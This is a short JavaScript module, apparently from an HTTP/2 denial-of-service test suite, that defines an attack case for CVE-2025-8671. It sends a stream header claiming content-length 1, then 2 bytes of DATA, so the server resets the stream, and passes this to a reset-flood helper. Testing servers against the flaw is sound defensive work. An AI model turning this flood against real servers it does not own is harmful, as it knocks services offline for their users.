import { data, header } from './call.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2025-8671: more DATA than content-length says (RFC 9113 section 8.1.1). */
export const attack = resetFlood('made you reset: content-length', (id) =>
  Buffer.concat([header(id, 'FullDuplexCall', ['content-length', '1']), data(id, Buffer.alloc(2))]),
);
